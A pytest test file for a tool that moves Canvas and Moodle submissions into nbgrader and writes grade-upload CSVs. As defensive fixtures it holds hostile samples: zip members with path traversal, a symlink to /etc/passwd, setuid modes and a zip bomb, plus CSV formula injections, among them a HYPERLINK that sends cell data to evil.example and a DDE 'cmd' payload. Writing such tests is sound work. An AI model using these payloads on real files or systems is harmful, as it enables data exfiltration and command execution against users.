"""The way in from Canvas or Moodle and back out (gru_ref/grading/lms.py, set in nbgrader_config.py):
`nbgrader zip_collect` on a download of each LMS's layout, built here; a roster made from the LMS's
export and imported with `nbgrader db student import`; a due date and nbgrader's late penalty applied
by nbgrader's autograde; `nbgrader export` and the upload CSVs for Canvas and Moodle, with one rule for
a learner without a recorded submission: a blank score, never 0."""
import csv
import io
import json
import os
import shutil
import signal
import stat
import subprocess
import sys
import time
import urllib.request
import uuid
import zipfile

import pytest

from conftest import ROOT, VENV_BIN
from course_e2e import nbgrader
from gru_ref.grading import lms

ASSIGNMENT = "gru"
FULL = "15"
CANVAS_EXPORT = """Student,ID,SIS User ID,SIS Login ID,Section,Quiz 1 (111),gru (777)
    Points Possible,,,,,10,15
"Doe, Jane",12345,s1,jane@uni.example,Section A,9,
"Roe, Bob",23456,s2,bob@uni.example,Section A,8,
"Poe, Al",34567,s3,al@uni.example,Section B,7,
"""
MOODLE_WORKSHEET = """Identifier,Full name,Email address,Status,Grade,Maximum Grade,Grade can be changed,Feedback comments
Participant 12345,Jane Doe,jane@uni.example,Submitted for grading,,15.00,Yes,
Participant 23456,Bob Roe,bob@uni.example,Submitted for grading,,15.00,Yes,
Participant 34567,Al Poe,al@uni.example,No submission,,15.00,Yes,
"""


def python(*args, cwd):
    return subprocess.run([sys.executable, *args], cwd=cwd, capture_output=True, text=True, timeout=300)


def free_port():
    import socket
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def course(root, late_penalty=False):
    root.mkdir(parents=True, exist_ok=True)
    config = (ROOT / "nbgrader_config.py").read_text()
    if late_penalty:  # the line the config shows, switched on
        config = config.replace('# c.LateSubmissionPlugin.penalty_method = "zero"',
                                'c.LateSubmissionPlugin.penalty_method = "zero"')
        assert 'c.LateSubmissionPlugin.penalty_method = "zero"\n' in config.replace("# c.", "#")
    (root / "nbgrader_config.py").write_text(config)
    shutil.copytree(ROOT / "solutions" / ASSIGNMENT, root / "solutions" / ASSIGNMENT)
    shutil.copytree(ROOT / "exercises" / ASSIGNMENT, root / "exercises" / ASSIGNMENT)
    return root


def test_zip_collect_reads_a_canvas_and_a_moodle_download(tmp_path):
    root = course(tmp_path / "course")
    solution = (ROOT / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb").read_bytes()
    released = (ROOT / "exercises" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb").read_bytes()
    archive = root / "downloaded" / ASSIGNMENT / "archive"
    archive.mkdir(parents=True)
    with zipfile.ZipFile(archive / "submissions.zip", "w") as canvas:  # Canvas: one flat folder
        canvas.writestr("doejane_12345_6789012_gru.ipynb", solution)
        canvas.writestr("roebob_LATE_23456_7890123_gru-1.ipynb", released)  # late, uploaded a second time
    with zipfile.ZipFile(archive / "moodle-gru-123.zip", "w") as moodle:  # Moodle: a folder each, or flat
        moodle.writestr("Ann Lee_345678_assignsubmission_file_/gru.ipynb", solution)
        moodle.writestr("Kim Park_456789_assignsubmission_file_gru.ipynb", released)
        moodle.writestr("Kim Park_456789_assignsubmission_file_notes.txt", "not a notebook")
    done = nbgrader(["zip_collect", ASSIGNMENT], root, timeout=300)
    assert done.returncode == 0, done.stderr[-3000:]
    submitted = {p.relative_to(root / "submitted").as_posix(): p.read_bytes()
                 for p in (root / "submitted").rglob("*") if p.is_file()}
    assert submitted == {"12345/gru/gru.ipynb": solution, "23456/gru/gru.ipynb": released,
                         "345678/gru/gru.ipynb": solution, "456789/gru/gru.ipynb": released}


def test_a_notebook_uploaded_twice_to_canvas_stops_no_one(tmp_path):
    """Two files of one name from one learner (gru.ipynb attached twice: gru-1.ipynb; or in two
    submissions) stopped nbgrader's whole zip_collect ("Duplicate submission file"): the newest is
    collected as gru.ipynb, the older beside it under its own name, and the class goes on."""
    root = course(tmp_path / "course")
    archive = root / "downloaded" / ASSIGNMENT / "archive"
    archive.mkdir(parents=True)
    with zipfile.ZipFile(archive / "submissions.zip", "w") as canvas:
        canvas.writestr("doejane_12345_6789012_gru.ipynb", b"first")
        canvas.writestr("doejane_12345_6789012_gru-1.ipynb", b"second")
        canvas.writestr("doejane_12345_6789013_gru.ipynb", b"newest submission")
        canvas.writestr("roebob_23456_7890123_gru-2.ipynb", b"bob's only file")
    done = nbgrader(["zip_collect", ASSIGNMENT], root, timeout=300)
    assert done.returncode == 0, done.stderr[-3000:]
    submitted = {p.relative_to(root / "submitted").as_posix(): p.read_bytes()
                 for p in (root / "submitted").rglob("*") if p.is_file()}
    assert submitted == {"12345/gru/gru.ipynb": b"newest submission", "12345/gru/gru-0_6789012.ipynb": b"first",
                         "12345/gru/gru-1_6789012.ipynb": b"second", "23456/gru/gru.ipynb": b"bob's only file"}


@pytest.mark.parametrize("name, student", [
    ("/x/submissions/smith-jonesann_LATE_98_76_gru (1).ipynb", "98"),
    ("/x/moodle/Jo Ann Smith_42_assignsubmission_file_/gru.ipynb", "42")])
def test_the_file_name_patterns_read_the_lms_number_as_the_student_id(name, student):
    assert lms.LmsFileNames()._match(name)["student_id"] == student
    assert lms.LmsFileNames()._match("/x/gru.ipynb") is None


@pytest.mark.parametrize("name, student", [
    ("/x/moodle/Ann Lee_345678_assignsubmission_file_/x_999_assignsubmission_file_gru.ipynb", "345678"),
    ("/x/moodle/Ann Lee_345678_assignsubmission_file_x_999_assignsubmission_file_gru.ipynb", "345678"),
    ("/x/canvas/doejane_12345_6789012_x_999_1_gru.ipynb", "12345"),
    ("/x/canvas/doejane_LATE_12345_6789012_roebob_LATE_999_1_gru.ipynb", "12345"),
])
def test_a_learner_cannot_hand_in_as_another_by_the_name_of_their_file(name, student):
    """The number is the LMS's, read where the LMS writes it: a learner who uploads a file named like
    another learner's download (…_999_assignsubmission_file_gru.ipynb) is still themselves."""
    assert lms.LmsFileNames()._match(name)["student_id"] == student


def test_lms_numbers_are_ascii_digits():
    assert lms.LmsFileNames()._match("/x/doejane_\u0661\u0662_6789012_gru.ipynb") is None  # Arabic-Indic 12


def _zip(path, members):
    """A zip of (name, bytes, unix mode) members, as a hostile one can be written."""
    with zipfile.ZipFile(path, "w") as z:
        for name, data, mode in members:
            info = zipfile.ZipInfo(name)
            info.external_attr = mode << 16
            z.writestr(info, data)


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_the_lms_download_is_extracted_inside_the_course_only_and_nothing_a_learner_zipped(tmp_path, caplog):
    """Names that leave the folder (.., absolute, a backslash, a line break), links, a setuid mode, two
    members of one name, and a learner's own zip inside the download (whose files are named as
    another learner's): nothing is written outside extracted/, nothing a learner zipped is unpacked,
    modes are plain, and each skip is one line."""
    archive, extracted = tmp_path / "archive", tmp_path / "course" / "extracted"
    archive.mkdir()
    extracted.mkdir(parents=True)
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as learners:
        learners.writestr("roebob_23456_1_gru.ipynb", b"{}")
    _zip(archive / "submissions.zip", [
        ("doejane_12345_6789012_gru.ipynb", b"{}", 0o104755),  # setuid asked for
        ("../../escaped.ipynb", b"x", 0o100644),
        ("/tmp/absolute.ipynb", b"x", 0o100644),
        ("a\\..\\..\\back.ipynb", b"x", 0o100644),
        ("line\nbreak_1_2_gru.ipynb", b"x", 0o100644),
        ("link_3_4_gru.ipynb", b"/etc/passwd", 0o120777),
        ("doejane_12345_6789012_gru.ipynb", b"second", 0o100644),
        ("eve_34567_8_upload.zip", inner.getvalue(), 0o100644),
    ])
    with caplog.at_level("INFO"):
        lms.LmsZipExtractor().extract(str(archive), str(extracted))
    files = sorted(p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*") if p.is_file())
    assert files == ["archive/submissions.zip", "course/extracted/submissions/doejane_12345_6789012_gru.ipynb",
                     "course/extracted/submissions/eve_34567_8_upload.zip"]
    jane = extracted / "submissions" / "doejane_12345_6789012_gru.ipynb"
    assert jane.read_bytes() == b"{}" and not jane.stat().st_mode & (stat.S_ISUID | stat.S_IXUSR)
    skipped = [r.getMessage() for r in caplog.records if r.levelname == "WARNING"]
    assert skipped == ["Skipped ../../escaped.ipynb in the download: not a relative path inside the download",
                       "Skipped /tmp/absolute.ipynb in the download: not a relative path inside the download",
                       "Skipped a\\..\\..\\back.ipynb in the download: not a relative path inside the download",
                       "Skipped line\\nbreak_1_2_gru.ipynb in the download: not a relative path inside the download",
                       "Skipped link_3_4_gru.ipynb in the download: a link",
                       "Skipped doejane_12345_6789012_gru.ipynb in the download: a second file of that name"]


def test_a_zip_bomb_or_a_broken_zip_is_one_line_and_leaves_nothing(tmp_path, caplog, monkeypatch):
    archive, extracted = tmp_path / "archive", tmp_path / "extracted"
    archive.mkdir()
    extracted.mkdir()
    with zipfile.ZipFile(archive / "bomb.zip", "w", zipfile.ZIP_DEFLATED) as z:
        for i in range(3):
            z.writestr(f"a{i}_1_2_gru.ipynb", b"\0" * (2 << 20))  # 6 MB of zeros in a few KB
    (archive / "broken.zip").write_bytes(b"PK\x03\x04 not a zip at all")
    monkeypatch.setattr(lms, "MAX_EXTRACTED", 4 << 20)
    with caplog.at_level("ERROR"):
        lms.LmsZipExtractor().extract(str(archive), str(extracted))
    assert not list(extracted.rglob("*"))
    errors = [r.getMessage() for r in caplog.records if r.levelname == "ERROR"]
    assert len(errors) == 2 and all("\n" not in e for e in errors), errors
    assert errors[0].startswith(f"Cannot extract {archive / 'bomb.zip'} (it would unpack to more than")
    assert errors[1].startswith(f"Cannot extract {archive / 'broken.zip'} (File is not a zip file)")


HOSTILE_CANVAS = """Student,ID,SIS User ID,SIS Login ID,Section,gru (777)
"=HYPERLINK(""http://evil.example/?""&A1), x",12345,+s1,@jane@uni.example,-Section A,
"Roe, Bob",\u0662\u0663,s2,bob@uni.example,Section A,
"""
HOSTILE_MOODLE = """Identifier,Full name,Email address,Status,Grade,Maximum Grade,Grade can be changed,Feedback comments
Participant 12345,=cmd|' /C calc'!A0 Doe,jane@uni.example,+Submitted,,15.00,Yes,@SUM(1)
Participant \u0662\u0663,Bob Roe,bob@uni.example,Submitted,,15.00,Yes,
"""


def test_no_cell_of_the_roster_or_the_upload_files_is_a_formula(tmp_path, monkeypatch):
    """Names, ids and every other column from the LMS's export (which learners' own profile fields
    fill) reach the roster and the upload CSVs as text: a cell starting with = + - @ gets an
    apostrophe; an id in other scripts' digits is nobody's."""
    from nbgrader.api import Gradebook
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("PATH", f"{VENV_BIN}{os.pathsep}{os.environ['PATH']}")  # nbgrader's alembic
    with Gradebook(f"sqlite:///{tmp_path / 'gradebook.db'}") as gradebook:
        gradebook.add_assignment("gru")
    cells = []
    for name, export in (("canvas", HOSTILE_CANVAS), ("moodle", HOSTILE_MOODLE)):
        (tmp_path / f"{name}.csv").write_text(export)
        assert lms.main(["roster", name, f"{name}.csv", "-o", f"{name}-roster.csv"]) == 0
        assert lms.main(["upload", name, "gru", f"{name}.csv", "-o", f"{name}-upload.csv"]) == 0
        for made in (f"{name}-roster.csv", f"{name}-upload.csv"):
            rows = list(csv.reader(open(tmp_path / made, newline="")))
            assert len(rows) == 2, rows  # the header and 12345: "\u0662\u0663" is no LMS number
            cells += rows[1]
    assert [c for c in cells if c.startswith(tuple("=+-@"))] == []
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1), x" in cells and "'=cmd|' /C calc'!A0 Doe" in cells
    assert {"'+s1", "'@jane@uni.example", "'-Section A", "'+Submitted", "'@SUM(1)"} <= set(cells)


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """Roster from Canvas's export, imported; a due date; Jane on time, Bob a day late (timestamp.txt, as
    nbgrader's collect writes it), Al never submits; autograded, exported, the upload files written."""
    root = course(tmp_path_factory.mktemp("lms") / "course", late_penalty=True)
    (root / "canvas_export.csv").write_text(CANVAS_EXPORT)
    (root / "moodle_worksheet.csv").write_text(MOODLE_WORKSHEET)
    steps = [python("-m", "gru_ref.grading.lms", "roster", "canvas", "canvas_export.csv", cwd=root),
             nbgrader(["generate_assignment", ASSIGNMENT, "--force"], root),
             nbgrader(["db", "student", "import", "reports/roster.csv"], root),
             nbgrader(["db", "assignment", "add", ASSIGNMENT, "--duedate=2026-01-01 00:00:00 UTC"], root)]
    for student, time in (("12345", "2025-12-31 23:00:00 UTC"), ("23456", "2026-01-02 00:00:00 UTC")):
        folder = root / "submitted" / student / ASSIGNMENT
        folder.mkdir(parents=True)
        shutil.copy(ROOT / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", folder)
        (folder / "timestamp.txt").write_text(time)
    steps += [nbgrader(["autograde", ASSIGNMENT], root, timeout=600), nbgrader(["export"], root),
              python("-m", "gru_ref.grading.lms", "upload", "canvas", ASSIGNMENT, "canvas_export.csv", cwd=root),
              python("-m", "gru_ref.grading.lms", "upload", "moodle", ASSIGNMENT, "moodle_worksheet.csv", cwd=root)]
    for step in steps:
        assert step.returncode == 0, (step.args, step.stderr[-3000:])
    return root, steps


def rows(path):
    with open(path, newline="") as f:
        return list(csv.DictReader(f))


def test_the_roster_comes_from_the_lms_export_and_nbgrader_imports_it(graded):
    root, steps = graded
    assert "3 learner(s)" in steps[0].stdout
    assert rows(root / "reports" / "roster.csv")[0] == {"id": "12345", "first_name": "Jane", "last_name": "Doe",
                                                       "email": "jane@uni.example"}
    exported = {r["student_id"]: r for r in rows(root / "grades.csv")}
    assert set(exported) == {"12345", "23456", "34567"} and exported["34567"]["last_name"] == "Poe"


def test_nbgrader_applies_the_late_penalty_after_the_due_date(graded):
    exported = {r["student_id"]: r for r in rows(graded[0] / "grades.csv")}
    assert exported["12345"]["score"] == "15.0" and exported["12345"]["late_submission_penalty"] == "0.0"
    late = exported["23456"]
    assert late["raw_score"] == "15.0" and late["late_submission_penalty"] == "15.0" and late["score"] == "0.0"


def test_every_csv_leaves_a_learner_without_a_submission_blank(graded):
    root = graded[0]
    exported = {r["student_id"]: r for r in rows(root / "grades.csv")}
    assert exported["34567"]["raw_score"] == exported["34567"]["score"] == ""  # nbgrader's own plugin wrote 0.0
    canvas = {r["ID"]: r["gru (777)"] for r in rows(root / "reports" / ASSIGNMENT / "canvas.csv")}
    moodle = {r["Identifier"]: r["Grade"] for r in rows(root / "reports" / ASSIGNMENT / "moodle.csv")}
    assert canvas == {"12345": FULL, "23456": "0", "34567": ""}
    assert moodle == {"Participant 12345": FULL, "Participant 23456": "0", "Participant 34567": ""}


def test_the_upload_files_have_the_columns_each_lms_reads(graded):
    root, steps = graded
    with open(root / "reports" / ASSIGNMENT / "canvas.csv") as f:
        assert next(csv.reader(f)) == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "gru (777)"]
    with open(root / "reports" / ASSIGNMENT / "moodle.csv") as f:
        assert next(csv.reader(f)) == next(csv.reader(io.StringIO(MOODLE_WORKSHEET)))  # the worksheet, as it came
    assert "1 without a submission nbgrader recorded (left blank)" in steps[-1].stdout


@pytest.mark.parametrize("args, says", [
    (["upload", "canvas", "gru", "export.csv"], "no gradebook at gradebook.db: run this at the course root."),
    (["roster", "moodle", "export.csv"], "has no column Identifier, Full name: give the LMS's own export"),
    (["roster", "canvas", "missing.csv"], "cannot read missing.csv")])
def test_a_wrong_file_is_one_clear_line(tmp_path, monkeypatch, capsys, args, says):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "export.csv").write_text("Name,Score\nJane,3\n")
    assert lms.main(args) == 2
    err = capsys.readouterr().err
    assert says in err and len(err.strip().splitlines()) == 1, err


def test_the_formgrader_answers_at_the_course_root(graded, tmp_path):
    """The chapter's command, headless: a Jupyter server at the course root with the environment's
    extensions (make setup enables nbgrader's formgrader there), /formgrader answers, then it stops."""
    root, port, token = graded[0], free_port(), uuid.uuid4().hex
    env = dict(os.environ, JUPYTER_CONFIG_DIR=str(tmp_path / "config"), JUPYTER_DATA_DIR=str(tmp_path / "data"),
               JUPYTER_RUNTIME_DIR=str(tmp_path / "runtime"), JUPYTER_PLATFORM_DIRS="1")  # none of ~/.jupyter
    server = subprocess.Popen(
        [str(VENV_BIN / "jupyter"), "server", "--no-browser", "--ip=127.0.0.1", f"--port={port}", "--port-retries=0",
         f"--IdentityProvider.token={token}", *(["--allow-root"] if os.geteuid() == 0 else [])],
        cwd=root, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    try:
        def get(path):  # the token as a header: urllib keeps no cookie across /formgrader's redirect
            request = urllib.request.Request(f"http://127.0.0.1:{port}{path}", headers={"Authorization": f"token {token}"})
            with urllib.request.urlopen(request, timeout=30) as answer:
                return answer.status, answer.read().decode()

        deadline, status = time.monotonic() + 60, None
        while status is None and server.poll() is None and time.monotonic() < deadline:
            try:
                status, page = get("/formgrader")
            except OSError:
                time.sleep(0.3)
        assert status == 200 and "Manage Assignments" in page, (status, server.poll())
        listed = {n["student"]: n for n in json.loads(get("/formgrader/api/submitted_notebooks/gru/gru")[1])}
        assert set(listed) == {"12345", "23456"}  # the gradebook of this course, at its root
    finally:
        os.killpg(server.pid, signal.SIGTERM)
        server.wait(timeout=30)
